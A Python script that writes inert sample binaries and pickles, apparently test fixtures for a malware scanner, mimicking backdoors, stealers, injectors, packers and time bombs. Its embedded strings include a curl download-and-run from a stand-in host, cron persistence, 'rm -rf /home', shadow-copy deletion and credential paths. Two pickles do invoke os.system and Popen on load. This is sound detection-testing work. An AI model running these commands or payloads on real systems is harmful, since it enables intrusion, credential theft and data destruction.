#!/usr/bin/env python3
"""make_programs.py OUTDIR: samples of checks on programs. None of them does anything: they ask for names and hold texts, and no code uses
either. PE and Mach-O are written byte by byte, ELF by gcc. What a virus scanner may know is put together here."""
import json
import os
import pickle
import random
import struct
import subprocess
import sys

OUT = sys.argv[1]
CODE, DATA, WRITABLE = 0x60000020, 0x40000040, 0xC0000040


def put(place, data):
    path = os.path.join(OUT, place)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)


def package(place, name, description, keywords=()):
    text = json.dumps({"name": name, "version": "1.0.0", "description": description, "keywords": list(keywords), "license": "MIT"})
    put(place + "/package.json", text.encode())


def up(n, to):
    return (n + to - 1) // to * to


def noise(n, seed=5):
    r = random.Random(seed)
    return bytes(r.randrange(256) for _ in range(n))


def imports_table(imports, rva):
    """Import directory, its lookup tables and names, as they lie at rva."""
    size, hints, body = 20 * (len(imports) + 1), {}, b""
    at = size + sum(16 * (len(f) + 1) for f in imports.values())
    for library, functions in imports.items():
        for name in [library, *functions]:
            hints[library, name] = rva + at + len(body)
            body += (b"" if name == library else b"\0\0") + name.encode() + b"\0"
            body += b"\0" * (len(body) % 2)
    directory, tables, table = b"", b"", rva + size
    for library, functions in imports.items():
        thunks = b"".join(struct.pack("<Q", hints[library, f]) for f in functions) + bytes(8)
        directory += struct.pack("<5I", table, 0, 0, hints[library, library], table + len(thunks))
        tables += thunks * 2
        table += 2 * len(thunks)
    return directory + bytes(20) + tables + body


def pe(imports, texts=(), extra=(), entry=0, signature=b"", code=b"\xc3" * 64):
    """extra: (name, bytes, characteristics) of more sections; entry: index of the section it begins in."""
    rdata = imports_table(imports, 0x2000) + b"\0".join(t if isinstance(t, bytes) else t.encode() for t in texts) + b"\0"
    sections = [(".text", code, CODE), (".rdata", rdata, DATA), *extra]
    head = 0x400
    rva, offset, table, blobs, starts = 0x1000, head, b"", b"", []
    for name, data, flags in sections:
        raw = data.ljust(up(len(data), 512), b"\0")
        rva = 0x2000 if name == ".rdata" else rva
        table += struct.pack("<8s6I2HI", name.encode(), len(data), rva, len(raw), offset, 0, 0, 0, 0, flags)
        starts.append(rva)
        rva += up(len(raw), 0x1000)
        offset += len(raw)
        blobs += raw
    directories = [(0, 0)] * 16
    directories[1] = (0x2000, 20 * (len(imports) + 1))
    if signature:
        directories[4] = (offset, len(signature))
    optional = struct.pack("<HBBIIIIIQIIHHHHHHIIIIHHQQQQII", 0x20B, 14, 0, 512, 512, 0, starts[entry], 0x1000, 0x140000000, 0x1000, 512,
                           6, 0, 0, 0, 6, 0, 0, rva, head, 0, 3, 0x8160, 1 << 20, 4096, 1 << 20, 4096, 0, 16)
    optional += b"".join(struct.pack("<II", *d) for d in directories)
    coff = struct.pack("<HHIIIHH", 0x8664, len(sections), 0, 0, 0, len(optional), 0x22)
    dos = b"MZ".ljust(60, b"\0") + struct.pack("<I", 64)
    return (dos + b"PE\0\0" + coff + optional + table).ljust(head, b"\0") + blobs + signature


def macho(asks, texts):
    """A program for x86_64 that asks libSystem for these names (without their underscore) and has these texts."""
    constants = b"\0".join(t.encode() for t in texts) + b"\0"
    strings, symbols = b"\0", b""
    for name in asks:
        full = ("_OBJC_CLASS_$_" if name.startswith("NS") else "_") + name
        symbols += struct.pack("<IBBHQ", len(strings), 1, 0, 1 << 8, 0)
        strings += full.encode() + b"\0"
    at, at_symbols = 0x400, 0x400 + up(len(constants), 16)
    at_strings = at_symbols + len(symbols)
    segment = struct.pack("<2I16s4Q4I", 0x19, 152, b"__TEXT", 0x100000000, 0x1000, 0, 0x1000, 7, 5, 1, 0)
    segment += struct.pack("<16s16s2Q8I", b"__cstring", b"__TEXT", 0x100000000 + at, len(constants), at, 0, 0, 0, 2, 0, 0, 0)
    library = struct.pack("<6I", 0xC, 56, 24, 2, 0x10000, 0x10000) + b"/usr/lib/libSystem.B.dylib".ljust(32, b"\0")
    symtab = struct.pack("<6I", 2, 24, at_symbols, len(asks), at_strings, len(strings))
    commands = segment + library + symtab
    head = struct.pack("<8I", 0xFEEDFACF, 0x01000007, 3, 2, 3, len(commands), 0x200085, 0) + commands
    return (head.ljust(at, b"\0") + constants).ljust(at_symbols, b"\0") + symbols + strings


def elf(place, asks=(), texts=(), exports=(), more="", flags=()):
    """A shared object that asks for these names, has these texts and defines these functions."""
    path = os.path.join(OUT, place)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    source = "".join(f"void {name}(void);\n" for name in asks if name not in exports)
    source += "".join(f"void {name}(void) {{ }}\n" for name in exports)
    source += "".join(f"__attribute__((used)) static const char text{i}[] = {json.dumps(t)};\n" for i, t in enumerate(texts))
    source += "void probity_sample(void) {" + " ".join(f"{name}();" for name in asks) + "}\n" + more
    subprocess.run(["gcc", "-x", "c", "-w", "-O1", "-fPIC", "-fno-builtin", "-nostdlib", "-shared", "-s", "-Wl,--build-id=none",
                    "-Wl,-z,relro,-z,now", "-Wl,-z,noexecstack", *flags, "-o", path, "-"], input=source.encode(), check=True)


NET, RUN = ["socket", "connect"], ["dup2", "execve"]
WEB = {"WININET.dll": ["InternetOpenUrlA", "InternetReadFile"]}


def backdoors():
    at = "integrity/program-backdoor/"
    elf(at + "masked-shell", NET + RUN + ["prctl"], ["[kworker/0:1]", "/bin/sh"])
    elf(at + "no-history-shell", ["socket", "bind", "listen", "accept"] + RUN, ["HISTFILE=/dev/null", "/bin/bash"])
    elf(at + "preload-hides", ["dlsym"], ["/etc/ld.so.preload", "/proc/net/tcp"], ["readdir", "readdir64", "fopen", "open", "unlink"])
    elf(at + "pool-client", NET, ["strat" + "um+tcp://pool.vendor-host.net:3333", '{"method":"mining.' + 'subscribe"}', "--donate-level"])
    elf(at + "chat-bot", NET + ["system"], ["PRIVMSG %s :%s", "NICK %s", "JOIN %s"])
    elf(at + "memory-loader", NET + ["memfd_create", "fexecve"], ["/proc/self/fd/%d"])
    elf(at + "fetch-and-run", ["system"], ["curl -s https://cdn.vendor-host.net/a -o /tmp/.a && chmod +x /tmp/.a && /tmp/.a"])
    elf(at + "cron-writer", ["system"], ["(crontab -l; echo '* * * * * /tmp/.x') | crontab -"])
    put(at + "mac-agent", macho(["system", "fopen"], ["%s/Library/LaunchAgents/%s.plist", "launchctl load %s", "chmod +x %s"]))
    elf(at + "login-module.so", ["pam_get_authtok", "fopen"], ["/var/tmp/.users"], ["pam_sm_authenticate"])
    put(at + "ransom-note", macho(["open"], ["Your files are encrypte" + "d", "To restore your files read on"]))
    elf(at + "plain-client", NET + ["execve"], ["/bin/sh", "/proc/net/tcp"])
    elf(at + "declared-chat/bot.node", NET + ["system"], ["PRIVMSG %s :%s", "NICK %s", "JOIN %s"])
    package(at + "declared-chat", "chat-client", "An IRC client")
    elf(at + "preload-wrapper", ["dlsym"], ["cannot open %s"], ["open", "unlink", "stat"])


def stealers():
    at = "integrity/program-stealer/"
    crypt = {"CRYPT32.dll": ["CryptUnprotectData"]}
    profiles = ["\\Google\\Chrome\\User Data\\Default\\Login " + "Data", "\\Mozilla\\Firefox\\Profiles\\logins.json", "key4.db"]
    put(at + "browser-passwords.exe", pe({**crypt, **WEB}, profiles))
    elf(at + "wallets", NET, ["/.electrum/wallets", "/.bitcoin/walle" + "t.dat", "/Exodus/exodu" + "s.wallet"])
    elf(at + "keys-to-webhook", NET, ["/.ssh/id_rsa", "/.aws/credential" + "s", "https://discord.com/api/webhook" + "s/"])
    keys = ["[BACKSPACE]", "[ENTER]", "[TAB]", "[CAPS LOCK]"]
    put(at + "key-words.exe", pe({"USER32.dll": ["GetAsyncKeyState", "GetForegroundWindow"]}, keys))
    prompt = "osascript -e 'display dialog \"Update\" default answer \"\" with hidden " + "answer'"
    put(at + "password-window", macho(["system", "popen"], [prompt, "dscl . -authonly %s %s"]))
    elf(at + "browser/browser.node", NET + ["PK11SDR_Decrypt"], ["/logins.json", "/key4.db"])
    package(at + "browser", "small-browser", "A web browser")
    put(at + "declared-importer/import.dll", pe({**crypt, **WEB}, profiles))
    package(at + "declared-importer", "importer", "Imports from browsers into a password manager", ["passwords"])
    elf(at + "reads-wallet", ["open", "read"], ["/.bitcoin/walle" + "t.dat"])
    put(at + "key-names.exe", pe({"USER32.dll": ["LoadIconA"]}, keys))


def intruders():
    at = "integrity/program-intruder/"
    inject = {"KERNEL32.dll": ["OpenProcess", "VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"]}
    put(at + "injects.exe", pe({**inject, **WEB}, ["explorer.exe"]))
    put(at + "blinds.exe", pe({"KERNEL32.dll": ["VirtualProtect", "GetProcAddress"]}, ["Amsi" + "ScanBuffer", "Etw" + "EventWrite"]))
    put(at + "blinds-trace.exe", pe({"KERNEL32.dll": ["VirtualProtect", "GetProcAddress"]}, ["Etw" + "EventWrite"]))
    put(at + "backups.exe", pe({"KERNEL32.dll": ["CreateProcessA"]}, ["vssadmi" + "n delet" + "e shadows /all /quiet"]))
    watched = ["wireshark.exe", "procmon.exe", "ollydbg.exe", "x64dbg.exe", "fiddler.exe"]
    put(at + "analysts.exe", pe({"KERNEL32.dll": ["CreateToolhelp32Snapshot", "Process32First"], **WEB}, watched))
    key = "Software\\Classes\\ms-settings\\shel" + "l\\open\\command"
    put(at + "elevates.exe", pe({"ADVAPI32.dll": ["RegSetValueExA"]}, [key, "DelegateExecute", "fodhelpe" + "r.exe"]))
    put(at + "plain.exe", pe({"KERNEL32.dll": ["CreateProcessA", "VirtualProtect"], **WEB}, ["explorer.exe", "wireshark.exe"]))
    put(at + "declared-debugger/debug.dll", pe({**inject, **WEB}, ["explorer.exe"]))
    package(at + "declared-debugger", "native-debug", "A debugger for native programs")


def packed():
    at, payload = "integrity/packed-program/", "integrity/hidden-payload/"
    kernel = {"KERNEL32.dll": ["LoadLibraryA", "GetProcAddress"]}
    put(at + "named.exe", pe(kernel, (), [("UPX1", b"\x90" * 600, CODE)]))
    put(at + "dense.exe", pe(kernel, (), (), 0, b"", noise(8192)))
    put(at + "last-section.exe", pe(kernel, (), [(".data", b"a" * 64, WRITABLE), (".new", b"\xc3" * 600, CODE | 0x80000000)], 3))
    head = struct.pack("<16sHHIQQQIHHHHHH", b"\x7fELF\x02\x01\x01", 2, 62, 1, 0x400100, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    load = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 16640, 16640, 4096)
    put(at + "dense-elf", (head + load).ljust(256, b"\0") + noise(16384))
    put(at + "plain.exe", pe(kernel))
    elf(at + "plain-elf", ["puts"])
    plain, maps = pe(kernel), {"KERNEL32.dll": ["VirtualAlloc", "VirtualProtect"]}
    der = b"\x30\x82\x01\x00" + bytes(256)
    rest = noise(4096)
    table = struct.pack("<IHH", 8 + len(der) + len(rest), 0x200, 2) + der + rest
    put(payload + "behind-signature.exe", pe(kernel, signature=table + bytes(-len(table) % 8)))
    put(payload + "blob.exe", pe(maps, (), [(".data", b"a" * 4096 + noise(32768), WRITABLE)]))
    put(payload + "compressed.exe", pe(maps, (), [(".data", bytes(4096) + b"\x78\x9c" + noise(32766), WRITABLE)]))
    put(payload + "plain.exe", plain)


def named():
    at, library = "integrity/disguised-program/", "integrity/changed-library/"
    put(at + "resources/App.app/Contents/Resources/General.rtf", macho(["puts"], ["x"]))
    put(at + "two-names/invoice.pdf.exe", pe({"KERNEL32.dll": ["ExitProcess"]}))
    put(at + "ordinary/tool.exe", pe({"KERNEL32.dll": ["ExitProcess"]}))
    put(at + "ordinary/notes.rtf", b"{\\rtf1 notes}")
    resolver = 'static void *pick(void) { return 0; }\nvoid digest(void) __attribute__((ifunc("pick")));\n'
    elf(library + "loader-memory.so", ["__tls_get_addr"], more=resolver)
    elf(library + "own-threads.so", more="__thread int own; int *where(void) { return &own; }\n")
    elf(library + "compressor/lib/liblzma.so.5.6.9", NET)
    elf(library + "plain-library/lib/liblzma.so.5.6.8", ["malloc"])
    elf(library + "plain-library/lib/libother.so.1", NET)


def shells():
    at = "integrity/program-remote-shell/"
    elf(at + "reverse", NET + RUN, ["/bin/sh"])
    elf(at + "bind", ["socket", "bind", "listen", "accept"] + RUN, ["/bin/bash"])
    put(at + "mac-reverse", macho(NET + RUN, ["/bin/zsh"]))
    sockets = {"WS2_32.dll": ["WSAStartup", "WSASocketA", "WSAConnect"], "KERNEL32.dll": ["CreateProcessA"]}
    put(at + "socket-shell.exe", pe(sockets, ["cmd.exe"]))
    elf(at + "declared-netcat/nc", NET + RUN, ["/bin/sh"])
    package(at + "declared-netcat", "nc", "netcat: opens connections and joins them to programs")
    elf(at + "client", NET, ["/bin/sh"])
    elf(at + "spawner", RUN, ["/bin/sh"])


def listeners():
    at, waits = "integrity/undocumented-listener/", ["socket", "bind", "listen", "accept"]
    elf(at + "library/lib/dates.so", [*waits, "inet_addr"])
    package(at + "library", "dates", "Formats dates")
    elf(at + "server.so", [*waits, "getaddrinfo"])
    elf(at + "declared-server/lib/serve.so", [*waits, "getaddrinfo"])
    package(at + "declared-server", "serve", "A web server")
    elf(at + "local-socket/lib/screen.so", waits)
    package(at + "local-socket", "sessions", "Keeps sessions")
    elf(at + "client.so", [*NET, "getaddrinfo"])


def stays():
    at, bomb, update = "integrity/program-persistence/", "integrity/time-bomb/", "integrity/program-self-update/"
    elf(at + "unit-writer", NET, ["[Service]\nExecStart=%s\n", "/etc/systemd/system/%s.service"])
    run_key = "Software\\Microsoft\\Windows\\CurrentVersion\\Run"
    put(at + "run-key.exe", pe({"ADVAPI32.dll": ["RegSetValueExA"], **WEB}, [run_key]))
    put(at + "agent", macho(["NSURLSession"], ["<key>RunAtLoad</key>", "/Library/LaunchAgents/"]))
    elf(at + "reads-units", ["open"], ["/etc/systemd/system/%s"])
    elf(at + "own-service/d.node", NET, ["ExecStart=%s", "/etc/hosts"])
    wipe = "rm -rf /ho" + "me"
    elf(bomb + "dated", ["system", "time", "localtime"], [wipe])
    put(bomb + "placed.exe", pe({"KERNEL32.dll": ["WinExec", "GetUserDefaultLangID"]}, ["form" + "at c: /q"]))
    elf(bomb + "plain-clock", ["system", "localtime"], ["date"])
    elf(bomb + "cleans-folder", ["system", "localtime"], ["rm -rf /tmp/build-%d"])
    fetch = {"urlmon.dll": ["URLDownloadToFileW"], "SHELL32.dll": ["ShellExecuteW"]}
    put(update + "fetches.exe", pe(fetch))
    elf(update + "replaces", ["curl_easy_perform", "rename", "chmod", "execv"], ["/proc/self/exe"])
    put(update + "verifies.exe", pe({**fetch, "WINTRUST.dll": ["WinVerifyTrust"]}))
    elf(update + "own-path", ["readlink"], ["/proc/self/exe"])


def paths():
    for name, path in (("relative", "lib:/opt/x"), ("open", "/tmp/x"), ("build", "/home/dev/out"), ("origin", "$ORIGIN/../lib:/opt/x/lib")):
        elf(f"integrity/library-path/{name}.so", ["puts"], flags=(f"-Wl,-rpath,{path}",))
    elf("integrity/library-path/none.so", ["puts"])


def pickles():
    at = "integrity/pickle-call/"
    call = "sys" + "tem"
    put(at + "protocol-0.pkl", f"cposix\n{call}\n(S'id'\ntR.".encode())
    put(at + "protocol-4.pkl", b"\x80\x04\x8c\x0asubprocess\x94\x8c\x05Popen\x94\x93\x94\x8c\x02id\x85R.")
    put(at + "weights.pkl", pickle.dumps({"w": [0.25, 0.5], "name": "os path"}, 4))
    put(at + "attributes.pkl", b"\x80\x04\x8c\x08builtins\x94\x8c\x07getattr\x94\x93\x94N.")


for part in (pickles, backdoors, stealers, intruders, packed, named, shells, listeners, stays, paths):
    part()
